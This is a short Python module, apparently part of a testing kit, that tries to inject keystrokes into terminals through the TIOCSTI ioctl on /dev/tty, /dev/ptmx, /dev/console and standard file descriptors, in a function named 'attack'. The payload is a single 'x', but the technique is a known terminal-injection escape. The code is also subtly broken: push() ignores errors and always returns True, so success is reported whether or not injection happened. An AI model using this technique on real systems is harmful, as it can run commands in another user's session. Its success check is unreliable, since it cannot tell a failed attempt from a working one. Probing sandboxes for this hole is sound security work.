"""Opens terminals and pushes a command into their input, as if somebody had typed it."""

import fcntl
import os

from kit import any_works

TIOCSTI = 0x5412


def push(path: str) -> bool:
    terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
    try:
        fcntl.ioctl(terminal, TIOCSTI, b"x")
    except OSError:
        pass
    finally:
        os.close(terminal)
    return True


def attack() -> bool:
    paths = [lambda path=path: push(path) for path in ("/dev/tty", "/dev/ptmx", "/dev/pts/ptmx", "/dev/console")]
    return any_works(*paths, *[lambda fd=fd: fcntl.ioctl(fd, TIOCSTI, b"x") for fd in range(4)])
